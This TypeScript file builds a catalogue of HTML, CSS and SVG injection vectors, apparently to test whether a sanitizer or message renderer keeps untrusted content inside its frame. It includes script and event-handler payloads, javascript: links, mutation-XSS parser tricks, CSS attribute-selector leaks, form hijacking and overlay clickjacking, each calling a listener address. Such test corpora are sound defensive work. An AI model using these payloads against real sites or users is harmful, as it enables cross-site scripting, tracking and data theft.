/** Where a message of strangers tries to reach out of its frame: each way has an address of its own at the listener. */
export interface Vector {
  readonly name: string;
  readonly html: string;
}

/** Every way we know, for a listener at `origin`; each tells the script’s mark or the title, where it would run. */
export function vectors(origin: string): Vector[] {
  const host = origin.replace('http:', '');
  const ran = "top.document.title='ran';parent.postMessage('ran','*');window.name='ran'";
  const ways: Record<string, (url: string) => string> = {
    image: (url) => `<img src="${url}" alt="a picture">`,
    'image without a scheme': (url) => `<img src="${url.replace(origin, host)}">`,
    'image with a tab in its scheme': (url) => `<img src="ht\ttp${url.slice(4)}">`,
    srcset: (url) => `<img srcset="${url} 1x, ${url}2 2x" src="x"><picture><source srcset="${url}"><img></picture>`,
    'lazy image': (url) => `<img loading="eager" data-src="${url}" lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
    'image input': (url) => `<input type="image" src="${url}">`,
    background: (url) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
    'body background': (url) => `<body background="${url}" style="background:url(${url})">`,
    'style url': (url) => `<p style="background-image:url('${url}')">x</p>`,
    'style url, escaped': (url) => `<p style="background:u\\72l(${url})">x</p>`,
    'style image-set': (url) =>
      `<p style="background:image-set('${url}' 1x);background:-webkit-image-set(url(${url}) 1x)">x</p>`,
    'style cross-fade': (url) => `<p style="background-image:-webkit-cross-fade(url(${url}),url(${url}),50%)">x</p>`,
    'list and border images': (url) => `<ul style="list-style-image:url(${url});border-image:url(${url}) 1"><li>x</ul>`,
    'cursor, content, mask, filter': (url) =>
      `<p style="cursor:url(${url}),auto;content:url(${url});-webkit-mask:url(${url});filter:url(${url}#f);clip-path:url(${url}#c);shape-outside:url(${url})">x</p>`,
    'variable with url': (url) => `<p style="--x:url(${url});background:var(--x)">x</p>`,
    import: (url) => `<style>@import "${url}"; @import url(${url}); @\\69mport "${url}"; p{color:red}</style>`,
    'font-face': (url) => `<style>@font-face{font-family:f;src:url(${url})} p{font-family:f}</style><p>x</p>`,
    'rule with url': (url) =>
      `<style>p{background:url(${url})} p::before{content:url(${url})} @media all{p{background:url(${url})}}</style>`,
    'supports, layer, container, nested': (url) =>
      `<style>@supports(color:red){p{background:url(${url})}} @layer a{p{background:url(${url})}} p{&{background:url(${url})} @media all{background:url(${url})}}</style>`,
    'attribute selector that tells': (url) =>
      `<style>a[href^="h"]{background:url(${url})}</style><a href="https://shop.example/">x</a>`,
    'style that ends early': (url) =>
      `<style><!-- </style><img src="${url}"><style> --></style><style>p{content:"</style><img src=${url}>"}</style>`,
    stylesheet: (url) =>
      `<link rel="stylesheet" href="${url}"><link rel="alternate stylesheet" href="${url}" title="x">`,
    'preloads and the like': (url) =>
      ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'icon', 'manifest', 'import']
        .map((rel) => `<link rel="${rel}" as="image" href="${url}${rel}">`)
        .join(''),
    'meta refresh': (url) =>
      `<meta http-equiv="refresh" content="0;url=${url}"><meta http-equiv="x-dns-prefetch-control" content="on">`,
    'meta policy and cookies': (url) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url}"><meta http-equiv="set-cookie" content="a=b">`,
    base: (url) => `<base href="${url}/" target="_top"><img src="relative.png"><a href="relative">x</a>`,
    script: (url) =>
      `<script src="${url}"></script><script>${ran};fetch('${url}')</script><script type="module">import '${url}'</script>`,
    'speculation rules': (url) => `<script type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`,
    handlers: (url) =>
      `<img src=x onerror="${ran};fetch('${url}')"><body onload="${ran}"><p onmouseover="${ran}" onclick="${ran}" onpointerdown="${ran}">x</p>`,
    'handlers of animations and details': () =>
      `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${ran}">x</p><details open ontoggle="${ran}">x</details>`,
    'autofocus handler': () => `<input autofocus onfocus="${ran}"><p tabindex=1 autofocus onfocus="${ran}">x</p>`,
    'javascript link': () =>
      `<a href="javascript:${ran}">run</a><a href="java\nscript:${ran}">run</a><a href="&#106;avascript:${ran}">run</a>`,
    'data link': (url) => `<a href="data:text/html,<script>fetch('${url}')</script>">data</a>`,
    'link and its ping': (url) =>
      `<a href="${url}" ping="${url}ping" target="_top">top</a><a href="${url}" target="_blank" rel="opener">blank</a>`,
    'link with attribution': (url) =>
      `<a href="${url}" attributionsrc="${url}a" download>x</a><img attributionsrc="${url}b">`,
    'map and area': (url) =>
      `<img usemap="#m" src="x"><map name="m"><area shape="default" href="${url}" ping="${url}"></map>`,
    frames: (url) =>
      `<iframe src="${url}"></iframe><frameset><frame src="${url}"></frameset><iframe srcdoc="<img src='${url}'><script>${ran}</script>"></iframe>`,
    'object, embed, applet': (url) =>
      `<object data="${url}" codebase="${url}" classid="${url}"><param name="movie" value="${url}"></object><embed src="${url}"><applet code="${url}" archive="${url}"></applet>`,
    'portal and fenced frame': (url) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
    'video, audio, track': (url) =>
      `<video src="${url}" poster="${url}p" autoplay><source src="${url}s"><track default src="${url}t"></video><audio src="${url}" autoplay></audio>`,
    form: (url) =>
      `<form action="${url}" method="post" target="_top"><input name="q" value="1"><button formaction="${url}f">send</button><input type="submit"></form>`,
    'svg image, use, feImage': (url) =>
      `<svg><image href="${url}" xlink:href="${url}x"/><use href="${url}#u"/><filter id="f"><feImage href="${url}f"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'svg script and animation': (url) =>
      `<svg onload="${ran}"><script>${ran}</script><a href="${url}"><text y="9">x</text><animate attributeName="href" values="javascript:${ran}"/></a><set attributeName="onmouseover" to="${ran}"/></svg>`,
    'svg foreignObject': (url) =>
      `<svg><foreignObject><iframe src="${url}"></iframe><img src="${url}"></foreignObject><style>@import "${url}";</style></svg>`,
    'svg as a data image': (url) =>
      `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/><script>${ran}</script></svg>`)}">`,
    'math that changes on a second reading': (url) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='${url}' onerror='${ran}'&gt;"></mglyph></table></mtext></math>`,
    'form in math that changes': (url) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src="${url}" onerror="${ran}"></style></mglyph></form>`,
    'noscript that changes': (url) => `<noscript><p title="</noscript><img src='${url}' onerror='${ran}'>"></noscript>`,
    'title, textarea, xmp that change': (url) =>
      `<title><a id="</title><img src=${url} onerror=${ran}>"></title><textarea><a id="</textarea><img src=${url}>"></textarea><xmp><a id="</xmp><img src=${url}>"></xmp>`,
    'select and template': (url) =>
      `<select><template><style><a id="</style><img src=${url}>"></template></select><template shadowrootmode="open"><img src="${url}"></template>`,
    comments: (url) =>
      `<!--><img src="${url}"><!-- --!><img src="${url}2"> --><![CDATA[><img src="${url}3">]]><?xml-stylesheet href="${url}"?>`,
    'conditional comment': (url) =>
      `<!--[if mso]><v:fill src="${url}"/><![endif]--><!--[if !mso]><!--><img src="${url}"><!--<![endif]-->`,
    'names that shadow': (url) =>
      `<form id="body"><input name="attributes"><input name="childNodes"><input name="nodeName"><img name="implementation" src="${url}"></form>`,
    'cite and other addresses': (url) =>
      `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><html manifest="${url}"><head profile="${url}"></head></html>`,
    'over the page': (url) =>
      `<a href="${url}" style="position:fixed;inset:0;z-index:2147483647;background:#fff">all of it</a>`,
    'huge sizes': () =>
      `<p style="width:99999999px;height:99999999px;box-shadow:0 0 9999999px red">x</p>${'<div>'.repeat(2000)}deep`,
    marquee: (url) =>
      `<marquee onstart="${ran}" behavior="alternate" style="behavior:url(${url});-moz-binding:url(${url})">x</marquee>`,
    'null and odd bytes': (url) =>
      `<im\u0000g src="${url}"><img/src="${url}"/onerror=${ran}><img\u000csrc=${url}><IMG SRC=\`${url}\`>`,
  };
  return Object.entries(ways).map(([name, html], at) => ({ name, html: html(`${origin}/v${at}`) }));
}
